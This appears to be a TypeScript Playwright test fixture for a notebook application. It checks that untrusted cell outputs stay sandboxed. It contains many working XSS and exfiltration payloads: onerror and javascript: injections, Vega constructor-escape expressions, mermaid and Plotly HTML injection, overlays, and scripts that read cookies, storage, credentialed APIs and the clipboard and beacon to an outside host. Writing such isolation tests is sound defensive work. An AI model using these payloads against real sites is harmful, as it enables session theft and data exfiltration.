// Outputs that mean harm, by the promise they try to break. A script of theirs leaves the word `stolen` wherever it can.
import type { Locator } from "playwright-core";

export type Bundle = Record<string, unknown>;

export interface Attempt {
  readonly bundle: Bundle;
  // What stands in the output once it has had its chance.
  readonly isThere: (output: Locator) => Locator;
  // What a person might press in it.
  readonly press?: (output: Locator) => Locator;
  // What the library that draws it lets through, and the page's policy holds back.
  readonly held?: readonly string[];
}

// Without double quotes, so that it fits into attributes.
const steal =
  "for (const place of [self, parent, top]) for (const deed of [() => { place.stolen = 1; }, () => { place.document.title = 'stolen'; }, () => { place.document.cookie = 'stolen=1'; }, " +
  "() => { place.localStorage.stolen = 1; }, () => { place.document.body.append('stolen'); }]) try { deed(); } catch {}";
const link = `javascript:${encodeURIComponent(steal)}`;

const inFrame = (output: Locator): Locator => output.locator("iframe").contentFrame().locator(".there");
const inFrameToPress = (output: Locator): Locator => output.locator("iframe").contentFrame().locator(".pressed");
const html = (text: string): Attempt => ({ bundle: { "text/html": `${text}<p class="there">there</p>`, "text/plain": "HTML" }, isThere: inFrame });
const inPage = (mime: string, data: unknown, selector: string): Attempt => ({ bundle: { [mime]: data, "text/plain": "there" }, isThere: (output) => output.locator(selector) });

const svg = (inside: string, attributes = ""): string => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="40" ${attributes}>${inside}<rect width="80" height="40" fill="#14783c"/></svg>`;

const bars = { mark: "bar", data: { values: [{ a: 1, b: 2 }] }, encoding: { x: { field: "a", type: "quantitative" }, y: { field: "b", type: "quantitative" } } };

export const attempts: Record<string, (elsewhere: string) => Attempt[]> = {
  "scripts in HTML act in their frame and nowhere else": () => [
    html(`<script>${steal}</script><img src="x" onerror="${steal}"><details open ontoggle="${steal}"></details>`),
    html(svg(`<script>${steal}</script><foreignObject width="80" height="40"><body xmlns="http://www.w3.org/1999/xhtml" onload="${steal}"><img src="x" onerror="${steal}"/></body></foreignObject>`, `onload="${steal}"`)),
    { ...html(`<a class="pressed" href="${link}">press</a><iframe srcdoc="&lt;script>${steal}&lt;/script>"></iframe>`), press: inFrameToPress },
    { bundle: { "application/javascript": `${steal} element.innerHTML = '<p class="there">there</p>';`, "text/plain": "Javascript" }, isThere: inFrame },
  ],
  "pictures are pictures, whatever is written in them": (elsewhere) => [
    inPage("image/svg+xml", svg(`<script>${steal}</script><style>@import "${elsewhere}style.css"; * { background: url(${elsewhere}ground) }</style><image href="${elsewhere}image" xlink:href="${elsewhere}image"/><use href="${elsewhere}use.svg#x"/>`, `onload="${steal}"`), "img"),
    inPage("image/svg+xml", svg(`<foreignObject width="80" height="40"><body xmlns="http://www.w3.org/1999/xhtml" onload="${steal}"><iframe src="${elsewhere}frame"/><img src="${elsewhere}foreign"/></body></foreignObject><a href="${link}"><text>x</text></a>`), "img"),
    inPage("image/png", `AAAA" onerror="${steal}" x="`, "img"),
    {
      ...inPage("text/markdown", `\`\`\`mermaid\ngraph TD; A["<img src='${elsewhere}mermaid' onerror='${steal.replaceAll("'", "`")}'>"]-->B; click B href "${link}"\n\`\`\``, "img"),
      held: ["csp: script-src-attr blocked inline", `csp: img-src blocked ${elsewhere}mermaid`], // the first is told of a document that is only parsed
    },
  ],
  "markup is drawn without what is active in it": (elsewhere) => [
    inPage(
      "text/markdown",
      `## There\n\n<script>${steal}</script><img src="x" onerror="${steal}"><iframe srcdoc="x"></iframe><style>body { display: none }</style><base href="${elsewhere}">\n\n<form action="${elsewhere}form"><button formaction="${link}">press</button></form>\n\n` +
        `<div style="position: fixed; inset: 0; z-index: 99999; background: red" onclick="${steal}">over all</div>\n\n[one](${link}) [two](java\nscript:alert) <a href="java&#9;script:${encodeURIComponent(steal)}">three</a>\n\n![four](${elsewhere}markdown) <img src="${elsewhere}html">`,
      "h2",
    ),
    inPage("text/latex", `$\\href{${link}}{x} \\require{html} \\style{position: fixed; inset: 0}{y} \\cssId{main}{z} \\class{nb-header}{u} \\unicode{x3c}$ and $\\def\\x{\\x\\x} \\x$`, "mjx-container"),
    { bundle: { "text/plain": `<img src=x onerror="${steal}"> there \u001b]8;;${link}\u0007link\u001b]8;;\u0007` }, isThere: (output) => output.getByText("there") },
    { bundle: { "application/json": { [`<img src=x onerror="${steal}">`]: `<script>${steal}</script> there` }, "text/plain": "JSON" }, isThere: (output) => output.getByText("there") },
  ],
  "plots load nothing and run nothing": (elsewhere) => [
    inPage("application/vnd.vega.v5+json", {
      width: 80, height: 40, data: [{ name: "far", url: `${elsewhere}vega.json` }], marks: [{ type: "image", encode: { enter: { url: { value: `${elsewhere}vega.png` } } } }],
    }, ".al-output-note, svg"),
    inPage("application/vnd.vega.v5+json", {
      width: 80, height: 40, signals: [{ name: "x", init: "[].constructor.constructor('stolen = 1')()" }, { name: "y", init: "warn.constructor('stolen = 1')()" }],
      marks: [{ type: "text", encode: { enter: { text: { value: `<img src=x onerror="${steal}">` }, href: { value: link } } } }],
    }, ".al-output-note, svg"),
    inPage("application/vnd.vega.v5+json", { width: 80, height: 40, signals: [{ name: "a", value: 1, bind: { input: "range", element: ".nb-header" } }, { name: "b", value: "stolen", bind: { element: ".nb-title input", event: "input" } }] }, ".al-output-note, svg"),
    inPage("application/vnd.vegalite.v5+json", { ...bars, params: [{ name: "a", value: 1, bind: { input: "range" } }], usermeta: { embedOptions: { bind: ".nb" } } }, ".al-output-note, svg"),
    inPage("application/vnd.vegalite.v5+json", { ...bars, data: { url: `${elsewhere}lite.json` } }, ".al-output-note, svg"),
    inPage("application/vnd.vegalite.v5+json", {
      ...bars, transform: [{ calculate: "datum.constructor.constructor('stolen = 1')()", as: "c" }], title: `<img src=x onerror="${steal}">`,
      usermeta: { embedOptions: { config: `${elsewhere}config.json`, patch: `${elsewhere}patch.json`, sourceHeader: `<script>${steal}</script>`, editorUrl: elsewhere, actions: true, defaultStyle: "body { display: none }" } },
    }, ".al-output-note, svg"),
    {
      held: [`csp: img-src blocked ${elsewhere}style`],
      ...inPage("application/vnd.plotly.v1+json", {
        data: [{ type: "bar", x: [`<a href="${link}">a</a><img src=x onerror="${steal}">`], y: [1], text: [`<script>${steal}</script>`], hovertemplate: `<b onmouseover="${steal}">b</b>` }],
        layout: {
          title: { text: `<a href="${link}" target="_self">there</a><img src="${elsewhere}plotly"><span style="position: fixed; inset: 0; background: url(${elsewhere}style)">x</span>` },
          images: [{ source: `${elsewhere}layout`, x: 0, y: 1, sizex: 1, sizey: 1 }], template: { layout: { images: [{ source: `${elsewhere}template`, x: 0, y: 1, sizex: 1, sizey: 1 }] } },
        },
        config: { plotlyServerURL: elsewhere, topojsonURL: elsewhere, showSendToCloud: true, mapboxAccessToken: "x" },
      }, ".main-svg"),
    },
    inPage("application/vnd.plotly.v1+json", { data: [{ type: "choropleth", locations: ["DEU"], z: [1] }], layout: {}, config: { topojsonURL: elsewhere } }, ".al-output-note, .main-svg"),
  ],
  "forms and addresses lead nowhere": (elsewhere) => [
    { ...html(`<form action="${elsewhere}form" method="post"><input name="secret" value="1"><button class="pressed">press</button></form><script>document.querySelector("form").requestSubmit();</script>`), press: inFrameToPress },
    { bundle: { "text/html": `<form action="${elsewhere}submit"></form><script>document.querySelector("form").submit();</script>` }, isThere: (output) => output.getByText("This output left its place for another page and was stopped.") },
    html(`<base href="${elsewhere}"><img src="based"><script>document.head.append(Object.assign(document.createElement("base"), { href: "${elsewhere}" })); document.body.append(Object.assign(new Image(), { src: "based-by-script" }));</script>`),
    html(`<meta http-equiv="refresh" content="0; url=${elsewhere}refresh">`),
    { ...html(`<a class="pressed" href="#x" ping="${elsewhere}ping" attributionsrc="${elsewhere}attribution">press</a>`), press: inFrameToPress },
  ],
  "nothing is covered and nothing looks different": () => [
    html(`<div style="position: fixed; inset: 0; z-index: 2147483647; background: red">stolen</div>`),
    html(`<style>html, body, .nb, .nb-header { display: none !important; background: red !important; color: red !important }</style>`),
    html(`<dialog open style="position: fixed; inset: 0">stolen</dialog><script>document.querySelector("dialog").close(); document.querySelector("dialog").showModal(); document.body.requestFullscreen?.().catch(() => {});</script>`),
    inPage("text/html", `<b class="nb-skip nb-legend al-notices al-menu drop-zone" id="allmende-config">there</b><div class="nb-header" id="main">stolen</div>`, "b"),
  ],
  "nobody elsewhere hears that the notebook was opened": (elsewhere) => [
    html(
      `<picture><source srcset="${elsewhere}source"><img src="${elsewhere}img" srcset="${elsewhere}srcset 2x"></picture><input type="image" src="${elsewhere}input"><video poster="${elsewhere}poster" src="${elsewhere}video"></video><audio src="${elsewhere}audio"></audio>` +
        `<object data="${elsewhere}object"></object><embed src="${elsewhere}embed"><iframe src="${elsewhere}iframe"></iframe><table background="${elsewhere}table"></table>${svg(`<image href="${elsewhere}image"/><use href="${elsewhere}use#x"/>`)}`,
    ),
    html(["preload", "prefetch", "modulepreload", "stylesheet", "icon", "manifest", "prerender", "preconnect", "dns-prefetch"].map((rel) => `<link rel="${rel}" as="image" href="${elsewhere}${rel}">`).join("")),
    html(`<style>@import "${elsewhere}import"; @font-face { font-family: far; src: url(${elsewhere}font) } p { font-family: far; background: url(${elsewhere}ground); cursor: url(${elsewhere}cursor), auto }</style>`),
    html(
      `<script src="${elsewhere}script"></script><script type="module">import("${elsewhere}module").catch(() => {});</script><script type="speculationrules">{ "prefetch": [{ "source": "list", "urls": ["${elsewhere}rules"] }] }</script>` +
        `<script>new EventSource("${elsewhere}events"); try { new SharedWorker("${elsewhere}worker"); } catch {}</script>`,
    ),
    html(`<script>if (self.RTCPeerConnection) { const call = new RTCPeerConnection({ iceServers: [{ urls: "stun:${new URL(elsewhere).host}" }] }); call.createDataChannel("x"); call.createOffer().then((offer) => call.setLocalDescription(offer)); }</script>`),
    inPage("text/html", `<b>there</b><img src="data:image/png;base64,AAAA" alt="x"><a href="${elsewhere}link">link</a>`, "b"),
  ],
};

// What a script finds out when it reaches for everything, written where a person (and this test) can read it.
export const reaching = (elsewhere: string): string => `<pre class="said"></pre><script>
(async () => {
  const said = {};
  const reach = async (name, deed) => {
    try { said[name] = "got " + await deed(); } catch (error) { said[name] = error.name; }
  };
  await reach("parent", () => parent.document.title);
  await reach("top", () => top.document.body.innerHTML.length);
  await reach("address", () => top.location.href);
  await reach("navigation", () => { top.location.href = "${elsewhere}top"; });
  await reach("cookie", () => document.cookie);
  await reach("storage", () => localStorage.length);
  await reach("session", () => sessionStorage.length);
  await reach("database", () => indexedDB.open("a"));
  await reach("contents", async () => (await fetch("/api/contents", { credentials: "include" })).status);
  await reach("me", () => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.open("GET", "/api/me");
    request.withCredentials = true;
    request.onload = () => resolve(request.status);
    request.onerror = () => reject(new TypeError("refused"));
    request.send();
  }));
  await reach("socket", () => new Promise((resolve, reject) => {
    const socket = new WebSocket("/api/events/subscribe");
    socket.onopen = () => resolve("in");
    socket.onerror = () => reject(new TypeError("refused"));
  }));
  await reach("elsewhere", async () => (await fetch("${elsewhere}fetch")).status);
  await reach("worker", () => new Promise((resolve, reject) => {
    const worker = new Worker(URL.createObjectURL(new Blob(["fetch('${elsewhere}worker').then(() => postMessage('in'), () => postMessage('refused'))"])));
    worker.onmessage = ({ data }) => (data === "in" ? resolve(data) : reject(new TypeError(data)));
  }));
  await reach("clipboard", () => navigator.clipboard.readText());
  navigator.sendBeacon("${elsewhere}beacon");
  new Image().src = "${elsewhere}image";
  window.open("${elsewhere}open");
  document.querySelector(".said").textContent = JSON.stringify(said);
})();
</script>`;

export const refused = {
  parent: "SecurityError", top: "SecurityError", address: "SecurityError", navigation: "SecurityError", cookie: "SecurityError", storage: "SecurityError", session: "SecurityError",
  database: "SecurityError", contents: "TypeError", me: "TypeError", socket: "TypeError", elsewhere: "TypeError", worker: "TypeError", clipboard: "NotAllowedError",
};
